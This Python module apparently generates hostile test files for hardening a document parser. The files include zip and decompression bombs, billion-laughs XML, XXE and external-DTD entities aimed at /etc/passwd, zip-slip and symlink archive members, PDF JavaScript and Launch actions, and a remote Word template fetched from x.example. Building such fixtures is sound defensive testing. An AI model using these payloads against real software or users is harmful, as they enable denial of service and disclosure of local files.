"""Files made to harm whoever reads them; each maker gives the same bytes each time.

`MAKERS` names each file, its ending telling the kind it pretends to be. What
opens or fetches something names `CANARY`, a file whose words must not turn up.
"""

from __future__ import annotations

import base64
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable

import papers
from office import CONTENT_TYPES, ODF, W, docx, odt, p, r, zipped

CANARY = "/etc/passwd"
GOOD = "Soldiers killed three farmers in Dorvan on Monday, the council said."
_CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
_FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
_SAY = b"BT /F1 12 Tf 60 700 Td (%s) Tj ET" % GOOD.encode()
_PAGE = (
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
    b"/Resources<</Font<</F1 5 0 R>>>>>>"
)
_WORD = {
    "[Content_Types].xml": CONTENT_TYPES,
    "word/document.xml": f"<w:document {W}><w:body>{p(GOOD)}</w:body></w:document>",
}
_KIDS = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _pdf(
    catalogue: bytes = _CATALOGUE,
    tree: bytes = _KIDS,
    page: bytes = _PAGE,
    content: bytes | None = None,
    *more: bytes,
) -> bytes:
    return papers.written([catalogue, tree, page, content or papers.stream(_SAY), _FONT, *more])


def _deflated(byte: bytes, millions: int) -> bytes:
    """So many million times one byte, compressed."""
    packer = zlib.compressobj(9)
    block = byte * 1_000_000
    return b"".join(packer.compress(block) for _ in range(millions)) + packer.flush()


def pdf_nested_flate() -> bytes:
    data = zlib.compress(zlib.compress(_deflated(b" ", 600), 9), 9)
    return _pdf(content=papers.stream(data, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]"))


def pdf_flate_of_text() -> bytes:
    data = zlib.compress(b"BT /F1 9 Tf 9 9 Td " + b"(words and words) Tj " * 1_500_000 + b"ET", 9)
    return _pdf(content=papers.stream(data, b"/Filter/FlateDecode"))


def pdf_page_of_letters() -> bytes:
    data = zlib.compress(b"BT /F1 9 Tf 9 9 Td " + b"(words and words) Tj " * 40_000 + b"ET", 9)
    return _pdf(content=papers.stream(data, b"/Filter/FlateDecode"))


def pdf_million_pages() -> bytes:
    return _pdf(tree=b"<</Type/Pages/Count 1000000/Kids[" + b"3 0 R " * 1_000_000 + b"]>>")


def pdf_page_tree_loop() -> bytes:
    return _pdf(tree=b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 4000>>")


def pdf_count_that_lies() -> bytes:
    return _pdf(tree=b"<</Type/Pages/Kids[3 0 R]/Count 2147483647>>")


def pdf_huge_page() -> bytes:
    return _pdf(page=_PAGE.replace(b"0 0 595 842", b"-9e30 -9e30 9e30 9e30"))


def pdf_huge_page_of_lines() -> bytes:
    lines = b"BT /F1 12 Tf 60 700 Td " + b"(%s) Tj 0 -14 Td " % GOOD.encode() * 30 + b"ET"
    page = _PAGE.replace(b"0 0 595 842", b"0 0 900000000 900000000")
    return _pdf(page=page, content=papers.stream(lines))


def pdf_actions() -> bytes:
    act = b"<</S/JavaScript/JS(app.launchURL\\('http://x.example'\\))/Next<</S/Launch/F(%s)>>>>"
    return _pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction %s>>" % (act % CANARY.encode()))


def pdf_broken_table() -> bytes:
    return _pdf().replace(b"0000000", b"9999999")


def pdf_table_loop() -> bytes:
    data = _pdf()
    at = data.index(b"xref")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def pdf_form_draws_itself() -> bytes:
    page = _PAGE.replace(b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<")
    more = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    return _pdf(_CATALOGUE, _KIDS, page, papers.stream(b"/X Do " * 100 + _SAY),
                papers.stream(b"/X Do /X Do", more))  # fmt: skip


def pdf_deep_arrays() -> bytes:
    return _pdf(content=papers.stream(b"[" * 2_000_000 + _SAY))


def pdf_deep_dictionaries() -> bytes:
    return _pdf(b"<</Type/Catalog/Pages 2 0 R/X" + b"<</X" * 200_000 + b">>" * 200_001)


def pdf_huge_picture() -> bytes:
    page = _PAGE.replace(b"/Font<<", b"/XObject<</X 6 0 R>>/Font<<")
    more = (
        b"/Type/XObject/Subtype/Image/Width 1000000/Height 1000000/BitsPerComponent 8"
        b"/ColorSpace/DeviceRGB/Filter/FlateDecode"
    )
    return _pdf(_CATALOGUE, _KIDS, page, papers.stream(b"/X Do " + _SAY),
                papers.stream(_deflated(b"\0", 100), more))  # fmt: skip


def pdf_outside_stream() -> bytes:
    return _pdf(content=b"<</Length 0/F(%s)>>stream\n\nendstream" % CANARY.encode())


def pdf_cut_off() -> bytes:
    return papers.set_in([papers.paragraph(GOOD)] * 40)[:2000]


def docx_bomb() -> bytes:
    return _with_bomb("word/document.xml", {"[Content_Types].xml": CONTENT_TYPES})


def odt_bomb() -> bytes:
    return _with_bomb("content.xml", {"mimetype": "application/vnd.oasis.opendocument.text"})


def _with_bomb(name: str, parts: dict[str, str]) -> bytes:
    """A document one part of which unpacks to far more than it says."""
    out = io.BytesIO(zipped(dict(parts)))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name)
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w", force_zip64=False) as member:
            for _ in range(300):
                member.write(b" " * 1_000_000)
    data = out.getvalue()
    return data.replace(struct.pack("<L", 300_000_000), struct.pack("<L", 100_000_000))


def docx_in_docx() -> bytes:
    inner = docx(p(GOOD))
    for _ in range(20):
        inner = zipped({**_WORD, "word/embeddings/a.docx": inner})
    return inner


def _laughs(root: str, names: str, inner: str) -> str:
    laughs = "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "lol">' for n in range(12)
    )
    return f"<!DOCTYPE x [{laughs}]><{root} {names}>{inner.format('&l11;')}</{root}>"


def docx_billion_laughs() -> bytes:
    body = _laughs("w:document", W, "<w:body>" + p("{}") + "</w:body>")
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": body})


def odt_billion_laughs() -> bytes:
    body = _laughs("office:document-content", ODF, "<office:body><text:p>{}</text:p></office:body>")
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": body})


def docx_outside_entity() -> bytes:
    body = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY}">]>'
        f"<w:document {W}><w:body>{p('&e;')}{p(GOOD)}</w:body></w:document>"
    )
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": body})


def docx_outside_entity_in_utf16() -> bytes:
    with zipfile.ZipFile(io.BytesIO(docx_outside_entity())) as archive:
        body = archive.read("word/document.xml").decode()
    text = f'<?xml version="1.0" encoding="UTF-16"?>{body}'.encode("utf-16")
    return zipped({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text})


def docx_outside_dtd() -> bytes:
    body = f'<!DOCTYPE x SYSTEM "file://{CANARY}">{_WORD["word/document.xml"]}'
    return zipped({**_WORD, "word/document.xml": body})


def docx_huge_table() -> bytes:
    cell = "<w:tc>" + p("12") + "</w:tc>"
    return docx("<w:tbl>" + f"<w:tr>{cell * 4}</w:tr>" * 60_000 + "</w:tbl>")


def docx_deep() -> bytes:
    return docx("<w:sdt><w:sdtContent>" * 50_000 + p(GOOD))


def docx_names_outside() -> bytes:
    return zipped({**_WORD,
                   "../../../tmp/recount-was-here": "x", "/tmp/recount-was-here": "x",
                   "word/header/../../../../x.xml": "x", "word\\header1.xml": "x"})  # fmt: skip


def docx_link() -> bytes:
    out = io.BytesIO(zipped({"[Content_Types].xml": CONTENT_TYPES}))
    link = zipfile.ZipInfo("word/document.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(link, CANARY)
    return out.getvalue()


def docx_remote_template() -> bytes:
    target = (
        'Id="r1" Type="attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"'
    )
    rels = f"<Relationships><Relationship {target}/></Relationships>"
    chunk = f'<w:altChunk {W} r:id="r1" xmlns:r="x"/>'
    return docx(p(GOOD) + chunk, **{"_rels/document.xml.rels": rels, "settings": rels})


def docx_locked() -> bytes:
    data = bytearray(docx(p(GOOD)))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + place] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def docx_many_members() -> bytes:
    parts: dict[str, str | bytes] = {f"word/header{n}.xml": "x" for n in range(60_000)}
    return zipped({"[Content_Types].xml": CONTENT_TYPES, **parts}, zipfile.ZIP_STORED)


def docx_damaged() -> bytes:
    data = bytearray(docx(p(GOOD)))
    at = data.find(b"word/document.xml") + 40
    data[at : at + 60] = b"\xff" * 60
    return bytes(data)


def docx_boxes_in_boxes() -> bytes:
    box = p(r(GOOD))
    for _ in range(60):
        box = p(f"<w:r><w:pict><w:txbxContent>{box}</w:txbxContent></w:pict></w:r>")
    return docx(box)


def odt_outside_entity() -> bytes:
    body = (
        f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{CANARY}">]><office:document-content {ODF}>'
        f"<office:body><text:p>&e;{GOOD}</text:p></office:body></office:document-content>"
    )
    return zipped({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": body})


def odt_repeated() -> bytes:
    row = '<table:table-row table:number-rows-repeated="2000000000"><table:table-cell'
    return odt(
        f'<text:p>{GOOD}<text:s text:c="2000000000"/></text:p><table:table>{row} '
        'table:number-columns-repeated="2000000000"><text:p>x</text:p></table:table-cell>'
        "</table:table-row></table:table>"
    )


def rtf_deep() -> bytes:
    return b"{\\rtf1 " + b"{" * 5_000_000 + GOOD.encode()


def rtf_huge_bin() -> bytes:
    return b"{\\rtf1\\bin2147483647 " + GOOD.encode() + b"\\bin-99 x}" + b"\\bin9999999999 y"


def rtf_control_words() -> bytes:
    return b"{\\rtf1" + b"\\b0\\i1" * 1_100_000 + GOOD.encode() + b"}"


def rtf_letters() -> bytes:
    return b"{\\rtf1\\uc10 " + b"\\u8364 " * 1_000_000 + b"\\'" * 1_000 + GOOD.encode()


def rtf_objects() -> bytes:
    link = b'{\\field{\\*\\fldinst INCLUDETEXT "%s"}{\\fldrslt }}' % CANARY.encode()
    return b"{\\rtf1 " + GOOD.encode() + link + b"{\\object\\objemb{\\*\\objdata 0105}}" * 10 + b"}"


_FROM = b"From: a@b.example\r\nDate: Mon, 04 May 2020 23:10:00 +0300\r\nMIME-Version: 1.0\r\n"


def eml_deep() -> bytes:
    return _FROM + b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(5_000)
    )


def eml_huge_head() -> bytes:
    return _FROM + b"Subject: " + b"=?utf-8?q?a?= (" * 900_000 + b"\r\n\r\n" + GOOD.encode()


def eml_many_headers() -> bytes:
    return _FROM + b"X-A: b\r\n" * 1_500_000 + b"\r\n" + GOOD.encode()


def eml_charsets() -> bytes:
    names = (b"unicode_escape", b"zlib", b"idna", b"utf-7", b"undefined", b"\xff\xfe", b"rot13")
    parts = b"".join(
        b"--b\r\nContent-Type: text/plain; charset=%s\r\n\r\n%s\r\n" % (name, GOOD.encode())
        for name in names
    )
    return _FROM + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--"


def eml_many_parts() -> bytes:
    head = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
    return _FROM + head + b"--b\r\n\r\nx\r\n" * 100_000 + b"--b--"


def eml_bad_base64() -> bytes:
    head = b"Content-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    return _FROM + head + base64.b64encode(b"<p>" + GOOD.encode() * 100) + b"=\x00=" * 1_000_000


def mhtml_loop() -> bytes:
    page = b"<html><body><p>%s</p><iframe src='cid:a'></iframe><img src='file://%s'></body></html>"
    body = page % (GOOD.encode(), CANARY.encode())
    part = b"--b\r\nContent-Type: text/html\r\nContent-ID: <a>\r\n\r\n" + body + b"\r\n"
    saved = b"From: <Saved by Blink>\r\nContent-Type: multipart/related; boundary=b; start=<a>\r\n"
    return saved + b"\r\n" + part * 500 + b"--b--"


def mhtml_deep() -> bytes:
    saved = b"From: <Saved by Blink>\r\n"
    return saved + b"".join(
        b"Content-Type: multipart/related; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
        for n in range(400)
    )


def html_nested() -> bytes:
    return b"<html><body>" + b"<div><b>" * 500_000 + GOOD.encode()


def html_huge_attribute() -> bytes:
    return b"<html><body><p class='" + b"a b " * 4_000_000 + b"'>" + GOOD.encode() + b"</p>"


def html_endless_charset() -> bytes:
    return b"<html><meta charset=" + b"u" * 5_000_000 + b"><p>" + GOOD.encode()


def html_outside() -> bytes:
    return (
        f'<!DOCTYPE html [<!ENTITY e SYSTEM "file://{CANARY}">]><html><body><p>{GOOD} &e;</p>'
        f'<iframe src="file://{CANARY}"></iframe><object data="{CANARY}"></object>'
        f'<xi:include href="{CANARY}" parse="text"/></body></html>'
    ).encode()


def html_comments() -> bytes:
    return b"<!--" * 1_500_000 + b"<html><p>" + GOOD.encode()


def html_linked_data() -> bytes:
    data = b'{"@type":' * 300_000
    return b"<html><script type='application/ld+json'>" + data + b"</script><p>" + GOOD.encode()


def txt_one_line() -> bytes:
    return b"Killed 12 (" * 1_800_000


MAKERS: dict[str, Callable[[], bytes]] = {
    name.replace("_", "-") + "." + name.partition("_")[0]: maker
    for name, maker in sorted(globals().items())
    if name.startswith(("pdf_", "docx_", "odt_", "rtf_", "eml_", "mhtml_", "html_", "txt_"))
}
